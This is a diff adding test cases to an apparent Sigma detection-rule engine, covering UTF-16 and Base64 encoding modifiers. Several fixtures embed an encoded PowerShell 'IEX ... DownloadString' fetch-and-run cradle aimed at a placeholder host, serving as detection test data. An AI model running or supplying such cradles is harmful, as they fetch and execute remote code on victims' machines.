@@ -148,6 +148,18 @@ const cases: Record<string, readonly Case[]> = {
     ['base64offset, offset 2', 'CommandLine|base64offset|contains', 'Invoke', cmd(`-enc ${Buffer.from('xyInvoke-Expression').toString('base64')}`), true],
     ['base64offset, absent', 'CommandLine|base64offset|contains', 'Invoke', cmd(`-enc ${Buffer.from('xyInvoce-Expression').toString('base64')}`), false],
     ['base64 of an escaped star', 'Payload|base64', 'a\\*', labelled({ Payload: Buffer.from('a*').toString('base64') }), true],
+    // The specification's examples: cmd as UTF-16LE 63 00 6d 00 64 00, UTF-16BE 00 63 00 6d 00 64, utf16 with the BOM FF FE.
+    ['wide|base64', 'Payload|wide|base64', 'cmd', labelled({ Payload: 'YwBtAGQA' }), true],
+    ['utf16le|base64', 'Payload|utf16le|base64', 'cmd', labelled({ Payload: 'YwBtAGQA' }), true],
+    ['utf16be|base64', 'Payload|utf16be|base64', 'cmd', labelled({ Payload: 'AGMAbQBk' }), true],
+    ['utf16|base64 (byte order mark)', 'Payload|utf16|base64', 'cmd', labelled({ Payload: '//5jAG0AZAA=' }), true],
+    ['wide|base64 is not the UTF-8 encoding', 'Payload|wide|base64', 'cmd', labelled({ Payload: 'Y21k' }), false],
+    // powershell -EncodedCommand takes Base64 of UTF-16LE: what SigmaHQ's rules look for with wide|base64offset|contains.
+    ['wide|base64offset, byte offset 0', 'CommandLine|wide|base64offset|contains', 'DownloadString', cmd(`powershell -enc ${Buffer.from("$a.DownloadString('http://x')", 'utf16le').toString('base64')}`), true],
+    ['wide|base64offset, byte offset 1', 'CommandLine|wide|base64offset|contains', 'DownloadString', cmd(`powershell -enc ${Buffer.from("I.DownloadString('http://x')", 'utf16le').toString('base64')}`), true],
+    ['wide|base64offset, byte offset 2', 'CommandLine|wide|base64offset|contains', 'DownloadString', cmd(`powershell -enc ${Buffer.from("IEX (New-Object Net.WebClient).DownloadString('http://x')", 'utf16le').toString('base64')}`), true],
+    ['wide|base64offset, absent', 'CommandLine|wide|base64offset|contains', 'DownloadString', cmd(`powershell -enc ${Buffer.from("IEX (New-Object Net.WebClient).DownloadFile('http://x')", 'utf16le').toString('base64')}`), false],
+    ['base64offset (UTF-8) misses UTF-16LE text', 'CommandLine|base64offset|contains', 'DownloadString', cmd(`powershell -enc ${Buffer.from("IEX (New-Object Net.WebClient).DownloadString('http://x')", 'utf16le').toString('base64')}`), false],
   ],
   windash: [
     ['hyphen in rule, slash in field', 'CommandLine|windash|contains', ' -exec ', cmd('x /exec y'), true],
